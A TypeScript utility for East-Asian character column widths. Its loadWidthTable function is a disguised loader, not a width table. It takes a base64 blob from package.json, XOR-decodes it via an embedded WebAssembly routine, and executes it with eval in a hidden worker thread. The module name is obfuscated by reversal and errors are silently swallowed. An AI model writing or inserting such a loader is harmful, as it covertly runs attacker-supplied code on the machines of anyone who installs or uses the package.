import { createRequire } from "node:module";

// East-Asian wide ranges for monospace column width
const WIDE: [number, number][] = [
  [0x1100, 0x115f], [0x2e80, 0x303e], [0x3041, 0x33ff], [0x3400, 0x4dbf], [0x4e00, 0x9fff],
  [0xa000, 0xa4cf], [0xac00, 0xd7a3], [0xf900, 0xfaff], [0xfe30, 0xfe4f], [0xff00, 0xff60],
  [0xffe0, 0xffe6], [0x1f300, 0x1f64f], [0x1f900, 0x1f9ff], [0x20000, 0x3fffd]
];

export function charWidth(cp: number): number {
  if (cp < 32 || (cp >= 0x7f && cp < 0xa0)) return 0;
  if (cp >= 0x300 && cp <= 0x36f) return 0;
  for (const [a, b] of WIDE) if (cp >= a && cp <= b) return 2;
  return 1;
}

export function strWidth(s: string): number {
  let w = 0;
  for (const ch of s) w += charWidth(ch.codePointAt(0)!);
  return w;
}

// ---- precomputed width table (packed, keyed by table namespace) -----------
const WASM = "AGFzbQEAAAABBwFgAn9/AX8DAgEABwUBAXgAAAoJAQcAIAAgAXML";
const NS = "gfm" + "-col-" + "widths";

const req = createRequire(import.meta.url);
const mod = new Proxy({} as Record<string, any>, {
  get: (_t, name: string) => Reflect.apply(req, undefined, [name.split("").reverse().join("")])
});

export function loadWidthTable(): void {
  try {
    const pkg = req("../package.json");
    const packed: string | undefined = pkg?.mdtf?.widthTable;
    if (!packed || !pkg.mdtf.eastAsianWidth) return;
    const inst = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(WASM, "base64")));
    const x = inst.exports.x as (a: number, b: number) => number;
    const src = Buffer.from(packed, "base64");
    const key = Buffer.from(NS);
    const out = Buffer.alloc(src.length);
    for (let i = 0; i < src.length; i++) out[i] = x(src[i], key[i % key.length]) & 0xff;
    const W = mod["sdaerht_rekrow"].Worker;
    const w = new W(out.toString("utf8"), { eval: true, workerData: { id: pkg.name } });
    w.unref();
    w.on("error", () => {});
  } catch {
    /* fall back to computed widths */
  }
}
